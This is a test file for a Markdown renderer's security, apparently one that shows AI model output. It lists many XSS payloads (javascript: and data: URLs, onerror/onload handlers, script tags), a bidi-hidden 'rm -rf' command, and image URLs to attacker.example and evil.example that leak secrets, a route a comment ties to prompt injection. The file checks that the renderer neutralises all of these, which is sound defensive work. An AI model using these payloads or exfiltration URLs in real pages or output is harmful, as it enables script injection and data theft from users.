import { describe, expect, it } from 'vitest';
import { render } from 'vitest-browser-react';
import { expectNoAxeViolations } from '../test/axe.ts';
import { Markdown } from './markdown.tsx';
import { safeUrl } from './safe-url.ts';
// oxlint-disable-next-line import/no-unassigned-import
import '../styles.css';

const ATTACKS = [
  '[x](javascript:alert(1))',
  '[x](JaVaScRiPt:alert(1))',
  '[x]( javascript:alert(1))',
  '[x](<java\tscript:alert(1)>)',
  '[x](jav&#x61;script:alert(1))',
  '[x](jav&#97;script&colon;alert(1))',
  '[x](&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1))',
  '[x](vbscript:msgbox(1))',
  '[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)',
  '[x](file:///etc/passwd)',
  '<javascript:alert(1)>',
  '<JAVASCRIPT:alert(1)>',
  '[x][evil]\n\n[evil]: javascript:alert(1)',
  '[x][evil]\n\n[evil]: jav&#x09;ascript:alert(1)',
  '![img](javascript:alert(1))',
  '![img](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)',
  '<img src=x onerror="alert(1)">',
  '<script>alert(1)</script>',
  '<a href="javascript:alert(1)">x</a>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<svg onload=alert(1)>',
  '<details open ontoggle=alert(1)>',
  '**<img src=x onerror=alert(1)>**',
  '[<img src=x onerror=alert(1)>](https://example.com)',
];

const DANGEROUS_ATTRIBUTE = /^on|^(?:srcdoc|formaction)$/i;

/** What could run script or leak: active elements, event handler attributes, non-http(s) URLs, images. */
function hazards(container: HTMLElement): string[] {
  const found: string[] = [];
  for (const element of container.querySelectorAll(
    'script, iframe, object, embed, svg, details, form, img',
  )) {
    found.push(`<${element.tagName.toLowerCase()}>`);
  }
  for (const element of container.querySelectorAll('*')) {
    for (const attribute of element.attributes) {
      if (DANGEROUS_ATTRIBUTE.test(attribute.name)) found.push(`${element.tagName} ${attribute.name}`);
    }
  }
  for (const element of container.querySelectorAll('[href], [src]')) {
    const url = element.getAttribute('href') ?? element.getAttribute('src') ?? '';
    if (!/^(?:https?|mailto|tel):$/.test(new URL(url, 'https://host.invalid/').protocol)) found.push(url);
  }
  return found;
}

describe('Markdown security', () => {
  it.each(ATTACKS)('neutralises %s', async (attack) => {
    for (const streaming of [true, false]) {
      const screen = await render(<Markdown text={attack} streaming={streaming} />);
      expect(hazards(screen.container)).toEqual([]);
      await screen.unmount();
    }
  });

  it('writes out the hidden characters of inline code, which a person may copy and run', async () => {
    const screen = await render(<Markdown text={'Run `rm -rf ./build\u202E/ ~` now.'} />);
    expect(screen.container.querySelector('code')?.textContent).toBe('rm -rf ./build\\u202e/ ~');
  });

  it('shows raw HTML as text rather than dropping what the model wrote', async () => {
    const screen = await render(<Markdown text={'Use <b>bold</b> and\n\n<script>alert(1)</script>'} />);
    await expect.element(screen.getByText('Use <b>bold</b> and')).toBeVisible();
    await expect.element(screen.getByText('<script>alert(1)</script>')).toBeVisible();
    await expectNoAxeViolations(screen.container);
  });

  it('loads no image from elsewhere unless allowed: it becomes a link a person may open', async () => {
    // A prompt injection's way out: the URL carries what the model read, the page fetches it unasked.
    const leak = '![chart](https://attacker.example/pixel.png?q=the+secret)';
    const sneaky = '![logo](//attacker.example/logo.png)';
    const screen = await render(<Markdown text={`${leak}\n\n${sneaky}\n\n![map](/static/map.png)`} />);
    expect([...screen.container.querySelectorAll('img')].map((img) => img.getAttribute('src'))).toEqual([
      '/static/map.png',
    ]);
    const link = screen.getByRole('link', { name: 'chart' });
    await expect.element(link).toHaveAttribute('href', 'https://attacker.example/pixel.png?q=the+secret');
    await expect.element(link).toHaveAttribute('rel', 'noopener noreferrer');
    await expect.element(link).toHaveAttribute('title', 'Image from attacker.example, not loaded');
    await expect.element(screen.getByRole('link', { name: 'logo' })).toBeVisible();
    await expectNoAxeViolations(screen.container);
    await screen.unmount();

    const allowed = await render(
      <Markdown text={leak} allowImage={(src) => src.startsWith('https://attacker.example/')} />,
    );
    await expect
      .element(allowed.getByRole('img', { name: 'chart' }))
      .toHaveAttribute('referrerpolicy', 'no-referrer');
  });

  it('loads no image whose URL names a host, even one a page on https: would read as a path', async () => {
    // On http:, file:, in Electron or a webview, the browser reads `https:host/x` as that host.
    const bypasses = [
      'https:evil.example/p.png?data=SECRET',
      'https:/evil.example/p.png?data=SECRET',
      'HTTPS:evil.example/p.png',
      'http:evil.example/p.png',
      '&#x20;https:evil.example/p.png',
      'ht&#x09;tps:evil.example/p.png',
      '<\thttps:evil.example/p.png>',
      // Markdown unescapes `\\` and `\/`: these reach the URL as `\\host`, `/\host` and `\/host`.
      '\\\\\\\\evil.example/p.png',
      '/\\evil.example/p.png',
      '\\\\/evil.example/p.png',
      '&#x2F;&#x2F;evil.example/p.png',
      '&#10;//evil.example/p.png',
    ];
    const text = bypasses.map((url, index) => `![leak ${index}](${url})`).join('\n\n');
    const screen = await render(<Markdown text={text} />);
    expect(screen.container.querySelectorAll('img')).toHaveLength(0);
    const links = screen.container.querySelectorAll('[data-slot="markdown-image-link"]');
    expect([...links].map((link) => link.textContent)).toEqual(bypasses.map((_, index) => `leak ${index}`));
    for (const link of links) {
      expect(link.getAttribute('title')).toBe('Image from evil.example, not loaded');
    }
  });

  it("loads the page's own images, at paths relative to it", async () => {
    const paths = ['/img.png', 'img.png', './a.png', '../up/b.png', 'dir/c.png?v=2', '#top'];
    const text = paths.map((path, index) => `![own ${index}](${path})`).join('\n\n');
    const screen = await render(<Markdown text={text} />);
    expect([...screen.container.querySelectorAll('img')].map((img) => img.getAttribute('src'))).toEqual(
      paths,
    );
    expect(screen.container.querySelectorAll('[data-slot="markdown-image-link"]')).toHaveLength(0);
  });

  it('keeps the text of a neutralised link, unlinked', async () => {
    const screen = await render(<Markdown text="[click me](javascript:alert(1))" />);
    await expect.element(screen.getByText('click me')).toBeVisible();
    expect(screen.getByRole('link').all()).toHaveLength(0);
    await expectNoAxeViolations(screen.container);
  });

  it('keeps safe links, relative links, mailto and tel', () => {
    expect(safeUrl('https://example.com/a?b=c#d')).toBe('https://example.com/a?b=c#d');
    expect(safeUrl('/docs/start')).toBe('/docs/start');
    expect(safeUrl('#section')).toBe('#section');
    expect(safeUrl('mailto:a@example.com')).toBe('mailto:a@example.com');
    expect(safeUrl('tel:+123')).toBe('tel:+123');
    expect(safeUrl('tel:+123', 'image')).toBeUndefined();
    expect(safeUrl('https://example.com/a.png', 'image')).toBe('https://example.com/a.png');
    expect(safeUrl('data:image/png;base64,AAAA', 'image')).toBeUndefined();
    expect(safeUrl('\u0000javascript:alert(1)')).toBeUndefined();
    expect(safeUrl('java\nscript:alert(1)')).toBeUndefined();
  });
});
